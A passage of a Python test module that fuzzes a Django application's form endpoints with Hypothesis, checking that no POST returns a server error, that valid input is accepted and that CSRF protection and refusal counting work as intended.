            if values.get("problem") or values.get("error"):
                return True
            if any(isinstance(v, forms.BaseForm) and v.is_bound and v.errors for v in values.values()):
                return True
    if response.get("Content-Type", "").startswith("application/json"):
        return response.json().get("ok") is False
    return False


@dataclass
class Tally:
    accepted: int = 0
    answers: list = field(default_factory=list)
    errors: list = field(default_factory=list)
    refusals: list = field(default_factory=list)


def refusal_of(response) -> str:
    """What a refusal said, for the failure message."""
    said = [str(message) for message in said_by(response)]
    if response.get("Content-Type", "").startswith("application/json"):
        said.append(str(response.json().get("error")))
    for context in response.context or []:
        for values in getattr(context, "dicts", [context]):
            if isinstance(values, dict):
                said += [str(values[key]) for key in ("problem", "error") if values.get(key)]
                said += [str(v.errors) for v in values.values() if isinstance(v, forms.BaseForm) and v.errors]
    return f"{response.status_code} {said}"


def post_once(client: Client, url: str, body: dict, tally: Tally) -> None:
    caches["local"].clear()  # LspProfile.current() and other per-process reads must not outlive the rollback
    client.cookies.pop("messages", None)  # what an earlier example left for its next page
    with transaction.atomic():
        response = client.post(url, body)
        transaction.set_rollback(True)
    if response.streaming:
        b"".join(response.streaming_content)
    got = outcome(response)
    tally.answers.append(response.status_code)
    if got == ERROR:
        error = response.exc_info[1] if getattr(response, "exc_info", None) else None
        shown = {k: (v[:80] + "…" if isinstance(v, str) and len(v) > 80 else v) for k, v in body.items()}
        tally.errors.append(f"500 {type(error).__name__}: {error}\n    body: {shown!r}")
        return
    has_nul = any("\x00" in v for v in body.values() if isinstance(v, str)) or any(
        "\x00" in item for v in body.values() if isinstance(v, list) for item in v
    )
    if response.status_code == 400 and has_nul:
        return
    if got == ALLOW and not refused_input(response):
        tally.accepted += 1
    elif len(tally.refusals) < 3:
        tally.refusals.append(refusal_of(response))


def crashes_here(name: str) -> bool:
    """Whether the known 500 of the address happens on the database this run uses."""
    return KNOWN_500S[name][2:] in ((), (connection.vendor,))


def fuzz_params() -> list:
    return [
        pytest.param(
            name,
            marks=[pytest.mark.xfail(crashes_here(name), strict=True, reason=KNOWN_500S[name][0])]
            if name in KNOWN_500S
            else [],
            id=name,
        )
        for name in sorted(STRATEGIES)
    ]


@pytest.mark.parametrize("name", fuzz_params())
def test_a_post_never_answers_500_and_valid_input_goes_through(name, world):
    strategy = STRATEGIES[name]
    persona = strategy.persona or allowed_personas(name)[0]
    kwargs = (strategy.state or strategy.kwargs or rows_of(name)[0].kwargs)(world)
    url = reverse(name, kwargs=kwargs)
    fields = strategy.fields(world, kwargs) if callable(strategy.fields) else strategy.fields
    client = signed_in(world, persona, enforce_csrf_checks=True)
    token = csrf_token(client)
    tally = Tally()

    with transaction.atomic():  # the CSRF check is real: without the token the same post is refused
        assert client.post(url, {}).status_code == 403
        transaction.set_rollback(True)

    def body_of(values: dict) -> dict:
        return {"csrfmiddlewaretoken": token} | {k: v for k, v in values.items() if v is not MISSING}

    valid = {name_: spec.valid_value(world) for name_, spec in fields.items()}

    @hypothesis_settings(
        max_examples=EXAMPLES,
        deadline=None,
        database=None,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.filter_too_much],
    )
    @given(values=st.fixed_dictionaries({k: spec.strategy(world) for k, spec in fields.items()}))
    @example(values=valid)
    def post(values):
        post_once(client, url, body_of(values), tally)

    if name in KNOWN_500S and crashes_here(name):
        post = example(values=valid | KNOWN_500S[name][1])(post)

    post()
    assert not tally.errors, f"{name}: {len(tally.errors)} answers were 500:\n" + "\n".join(tally.errors[:5])
    assert tally.accepted, (
        f"{name}: none of {len(tally.answers)} posts went through (answers {sorted(set(tally.answers))}); "
        f"the valid example must. Refusals: {tally.refusals}"
    )


def test_a_refused_post_is_not_counted_as_going_through(world):
    """The count of accepted examples can fail: a form turned back with a message (on its own page or on the
    page it redirects to) counts as refused, a received complaint as accepted."""
    client = signed_in(world, "anonymous", enforce_csrf_checks=True)
    token = csrf_token(client)
    refused, received = Tally(), Tally()
    post_once(client, reverse("certificates:complaint_new"), {"csrfmiddlewaretoken": token}, refused)
    complaint = {"name": "Warga", "email": "warga@contoh.id", "subject": "Jadwal", "description": "Diundur."}
    post_once(
        client, reverse("certificates:complaint_new"), {"csrfmiddlewaretoken": token, **complaint}, received
    )
    manager = signed_in(world, "manajer", enforce_csrf_checks=True)
    for url in (
        reverse("certificates:legacy_import"),
        reverse("schemes:retire", kwargs={"pk": world.draft_scheme.pk}),
    ):
        post_once(manager, url, {"csrfmiddlewaretoken": csrf_token(manager)}, refused)
    assert (refused.accepted, len(refused.refusals), received.accepted) == (0, 3, 1), refused.refusals
